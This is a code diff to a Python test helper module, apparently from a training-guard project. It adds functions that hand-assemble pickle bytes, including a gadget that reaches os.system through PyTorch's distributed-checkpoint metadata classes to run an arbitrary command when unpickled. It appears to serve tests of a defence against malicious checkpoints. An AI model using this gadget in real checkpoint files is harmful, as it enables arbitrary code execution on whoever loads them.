@@ -9,13 +9,14 @@ from __future__ import annotations
 import contextlib
 import importlib.util
 import signal
+import struct
 import sys
 from collections.abc import Iterator
 from pathlib import Path
 from types import ModuleType
 from typing import Any
 
-__all__ = ["TOY", "load_fault_harness", "runs_by_kind", "time_limit", "toy_job", "wait_for_a_background_run"]
+__all__ = ["DCP_METADATA_MODULE", "TOY", "attrgetter_gadget", "binunicode", "call_gadget", "load_fault_harness", "runs_by_kind", "time_limit", "toy_job", "wait_for_a_background_run"]
 
 #: the fake training script of trainguard's own tests (no torch: a run costs a fraction of a second)
 TOY = Path(__file__).resolve().parent / "data" / "jobs" / "toy_train.py"
@@ -137,3 +138,35 @@ def copy_digits_ray_example(tmp_path: Path, checks: str) -> Path:
     text = job.read_text()
     job.write_text(text[: text.index("checks:")] + checks.lstrip("\n"))
     return job
+
+
+#: the module DCP's ``.metadata`` pickles name their dataclasses from
+DCP_METADATA_MODULE = "torch.distributed.checkpoint.metadata"
+
+
+def binunicode(text: str) -> bytes:
+    """``text`` as a pickle BINUNICODE opcode (for hand-made pickles)."""
+    data = text.encode()
+    return b"X" + struct.pack("<I", len(data)) + data  # BINUNICODE
+
+
+def call_gadget(module: str, name: str, arg: str, protocol: int) -> bytes:
+    """A pickle calling ``module.name(arg)``: GLOBAL for protocol 2, STACK_GLOBAL for 4."""
+    if protocol == 2:
+        found = b"c" + module.encode() + b"\n" + name.encode() + b"\n"
+    else:
+        found = binunicode(module) + binunicode(name) + b"\x93"
+    return bytes([0x80, protocol]) + found + binunicode(arg) + b"\x85R."
+
+
+def attrgetter_gadget(command: str) -> bytes:
+    """The gadget of issue 24: ``torch.inspect.attrgetter`` is a *type* reached by a dotted name
+    from the metadata module; with it, ``TensorProperties.__getstate__.__globals__.get('os')``,
+    then ``attrgetter('system')(os)(command)``."""
+    meta = DCP_METADATA_MODULE
+    getter = binunicode(meta) + binunicode("torch.inspect.attrgetter") + b"\x93"
+    cls = binunicode(meta) + binunicode("TensorProperties") + b"\x93"
+    return (b"\x80\x04" + getter + binunicode("__getstate__.__globals__.get") + b"\x85R"
+            + cls + b"\x85R" + binunicode("os") + b"\x85R\x94" + b"0"
+            + getter + binunicode("system") + b"\x85R" + b"h\x00\x85R"
+            + binunicode(command) + b"\x85R.")
